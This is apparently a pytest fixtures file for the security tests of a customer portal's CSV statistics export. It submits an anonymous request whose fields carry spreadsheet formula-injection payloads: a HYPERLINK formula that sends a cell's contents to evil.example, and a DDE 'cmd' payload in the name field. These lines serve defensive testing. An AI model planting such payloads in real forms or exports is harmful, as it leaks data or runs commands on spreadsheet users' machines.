"""Security fixtures shared by tests/security: an anonymous visitor's hostile request, a manager
signed in, the CSV of a response read back."""
from __future__ import annotations

import csv
import io

import pytest

from tests.portal.conftest import customer_graph, logged_in, post_form  # noqa: F401  (fixtures)

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'


def read_csv(resp) -> list[list[str]]:
    """The rows of a CSV response, as a spreadsheet would split them."""
    assert resp.status_code == 200 and resp.mimetype == "text/csv", resp.status_code
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))


@pytest.fixture
def hostile_request(client, db):
    """An anonymous visitor's information request whose question is a spreadsheet formula."""
    data = {"name": "-2+3+cmd|' /C calc'!A0", "question": FORMULA + " about my gas tariff",
            "email": "visitor@example.com", "phone": "", "postal_address": "", "website": ""}
    resp = post_form(client, "/portal/information", data)
    assert resp.status_code == 302, resp.get_data(as_text=True)[:400]
    return data


@pytest.fixture
def manager(client, make_user):
    """A fresh client signed in as a manager (the role that exports statistics)."""
    from app.roles import MANAGER
    from tests.conftest import staff_login

    user, password = make_user(MANAGER)
    staff_login(client, user.username, password)
    return user


# --- hypothesis: the "ci" profile (derandomised, at most 100 examples, no deadline) -----------
def _hypothesis_profiles() -> None:
    import os

    from hypothesis import HealthCheck, settings

    settings.register_profile(
        "ci", derandomize=True, max_examples=100, deadline=None, print_blob=True,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                               HealthCheck.data_too_large])
    settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "ci"))


_hypothesis_profiles()
